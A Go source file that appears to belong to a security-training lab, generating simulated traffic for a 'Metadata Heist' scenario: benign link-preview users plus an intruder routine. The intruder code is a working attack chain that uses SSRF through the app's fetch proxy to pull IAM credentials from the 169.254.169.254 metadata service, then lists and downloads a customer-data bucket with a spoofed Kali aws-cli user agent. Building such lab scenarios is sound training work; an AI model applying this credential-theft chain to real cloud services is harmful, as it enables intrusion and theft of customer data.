package traffic

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"strings"
	"time"

	"github.com/sakimori/sakimori/labs/cloudsim/client"
)

// The Metadata Heist's traffic. WEB is the link-preview app's base URL,
// CLOUD the cloud endpoint.
func init() {
	register("heist-users", heistUsers)
	register("heist-intruder", heistIntruder)
}

const browserUA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"

// heistUsers: customers previewing links to the company's public assets.
func heistUsers(ctx context.Context, env Env) error {
	web, cloud := env("WEB"), env("CLOUD")
	hc := &http.Client{Timeout: 10 * time.Second}
	for sleep(ctx, 20*time.Second) {
		get(hc, web+"/", browserUA)
		get(hc, web+"/fetch?url="+q(cloud+"/acme-public/banner.txt"), browserUA)
	}
	return nil
}

// heistIntruder re-enacts the breach: the SSRF to the metadata service
// (IMDSv1, a plain GET through the proxy), then the role's key used from
// the attacker's own address to see who it is and take the data.
func heistIntruder(ctx context.Context, env Env) error {
	web, cloud := env("WEB"), env("CLOUD")
	hc := &http.Client{Timeout: 10 * time.Second}
	if !sleep(ctx, duration(env, "DELAY", 45*time.Second)) {
		return nil
	}
	for {
		if err := heistOnce(hc, web, cloud); err != nil {
			logger.Info("intruder: run ended early", "err", err)
		}
		if !sleep(ctx, 10*time.Minute) {
			return nil
		}
	}
}

func heistOnce(hc *http.Client, web, cloud string) error {
	const ua = "python-requests/2.31.0"
	const meta = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
	role, err := get(hc, web+"/fetch?url="+q(meta), ua)
	if err != nil {
		return err
	}
	doc, err := get(hc, web+"/fetch?url="+q(meta+strings.TrimSpace(role)), ua)
	if err != nil {
		return err
	}
	var creds client.Credentials
	if err := json.Unmarshal([]byte(doc), &creds); err != nil {
		return err
	}
	c := &client.Client{Endpoint: cloud, Creds: &creds, UserAgent: "aws-cli/2.13.5 Python/3.11.4 Linux/6.5.0-kali2-amd64 exe/x86_64.kali.2023 prompt/off command/sts.get-caller-identity"}
	if _, err := c.Query("sts", "GetCallerIdentity", nil); err != nil {
		return err
	}
	c.UserAgent = strings.Replace(c.UserAgent, "sts.get-caller-identity", "s3.ls", 1)
	if _, err := c.S3("GET", "/", nil); err != nil {
		return err
	}
	res, err := c.S3("GET", "/acme-customer-data?list-type=2", nil)
	if err != nil {
		return err
	}
	c.UserAgent = strings.Replace(c.UserAgent, "s3.ls", "s3.cp", 1)
	for _, key := range listKeys(res.Body) {
		if _, err := c.S3("GET", "/acme-customer-data/"+escapePath(key), nil); err != nil {
			return err
		}
	}
	return nil
}

func get(hc *http.Client, u, ua string) (string, error) {
	req, err := http.NewRequest(http.MethodGet, u, nil)
	if err != nil {
		return "", err
	}
	req.Header.Set("User-Agent", ua)
	resp, err := hc.Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	return string(b), err
}

func escapePath(key string) string {
	parts := strings.Split(key, "/")
	for i, p := range parts {
		parts[i] = url.PathEscape(p)
	}
	return strings.Join(parts, "/")
}
